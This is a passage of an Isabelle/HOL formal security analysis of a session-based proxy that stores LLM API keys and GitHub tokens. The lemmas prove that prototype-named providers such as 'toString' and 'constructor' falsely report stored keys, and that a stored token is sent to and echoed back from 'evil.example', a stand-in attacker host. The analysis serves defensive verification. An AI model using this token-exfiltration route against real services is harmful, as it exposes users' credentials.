  "llm_proxy (env_at 10) [(''s'', \<lparr>createdAt = 0, keys = []\<rparr>)]
     (post (no_fields\<lparr>action := Some ''check_key'', sessionId := Some ''s'',
                      provider := Some ''constructor''\<rparr>))
   = (json_response 200 (JObj [(''hasKey'', JBool True)]),
      [(''s'', \<lparr>createdAt = 0, keys = []\<rparr>)])
   \<and> snd (llm_proxy (env_at 11) [(''s'', \<lparr>createdAt = 0, keys = []\<rparr>)]
       (post (no_fields\<lparr>action := Some ''set_key'', sessionId := Some ''s'',
                      provider := Some ''toString'', apiKey := Some ''k1''\<rparr>)))
     = [(''s'', \<lparr>createdAt = 0, keys = [(''toString'', ''k1'')]\<rparr>)]
   \<and> llm_proxy (env_at 12) [(''s'', \<lparr>createdAt = 0, keys = [(''toString'', ''k1'')]\<rparr>)]
       (post (no_fields\<lparr>action := Some ''remove_key'', sessionId := Some ''s'',
                      provider := Some ''toString''\<rparr>))
     = (json_response 200 (JObj [(''success'', JBool True), (''providers'', JArr [])]),
        [(''s'', \<lparr>createdAt = 0, keys = []\<rparr>)])
   \<and> fst (llm_proxy (env_at 13) [(''s'', \<lparr>createdAt = 0, keys = []\<rparr>)]
       (post (no_fields\<lparr>action := Some ''check_key'', sessionId := Some ''s'',
                      provider := Some ''toString''\<rparr>)))
     = json_response 200 (JObj [(''hasKey'', JBool True)])"
  by (simp add: llm_proxy_def post_def no_fields_def llm_action_def llm_check_key_def
        llm_set_key_def llm_remove_key_def falsy_def sweep_eval env_at_def map_get_def
        prop_truthy_def object_prototype_names_def prop_set_def prop_delete_def
        providers_json_def object_keys_single object_keys_Nil Let_def)

section \<open>Secrecy of the stored values\<close>

text \<open>
  C2. An answer can carry a stored token. \<open>proxy\<close> relays the upstream's body as
  \<open>data\<close>, and the call goes, with the token in its \<open>Authorization\<close> header, to
  whatever https host the endpoint names. An upstream that sends the header's token back
  has it relayed to the caller, who held nothing but the session id.
\<close>

theorem proxy_relays_echoed_token:
  "github_proxy (env_at 10)
     (\<lambda>c. Inr \<lparr>up_status = 200, up_headers = [],
                up_json = Inr (JObj [(''stolen'',
                  (case map_of (headers c) ''Authorization'' of
                     None \<Rightarrow> JNull
                   | Some v \<Rightarrow> JStr (drop 7 v)))])\<rparr>)
     [(''g'', \<lparr>createdAt = 5, token = ''ghp_secret'', tokenType = ''classic''\<rparr>)]
     (post (no_fields\<lparr>action := Some ''proxy'', sessionId := Some ''g'',
                      endpoint := Some ''https://evil.example/echo''\<rparr>))
   = (\<lparr>status = 200,
       json_body = Some (JObj [(''data'', JObj [(''stolen'', JStr ''ghp_secret'')]),
                               (''status'', JNum 200),
                               (''rateLimit'', JObj [(''limit'', JNull), (''remaining'', JNull),
                                                     (''reset'', JNull)])])\<rparr>,
      [(''g'', \<lparr>createdAt = 5, token = ''ghp_secret'', tokenType = ''classic''\<rparr>)],
      [\<lparr>url = ''https://evil.example/echo'', fetch_method = ''GET'',
        headers = [(''Authorization'', ''Bearer ghp_secret''),
                   (''Accept'', ''application/vnd.github.v3+json''),
                   (''User-Agent'', ''Lovable-App'')],
        fetch_body = None\<rparr>])
   \<and> ''ghp_secret'' \<in> set (json_strings
         (JObj [(''data'', JObj [(''stolen'', JStr ''ghp_secret'')]),
                (''status'', JNum 200),
                (''rateLimit'', JObj [(''limit'', JNull), (''remaining'', JNull),
                                      (''reset'', JNull)])]))"
  by (simp add: github_proxy_def post_def no_fields_def gh_action_def gh_proxy_def falsy_def
        sweep_eval env_at_def map_get_def proxy_call_def fullUrl_def startsWith_def
        auth_headers_def proxy_response_def ok_def headers_get_def response_init_error_def)

end
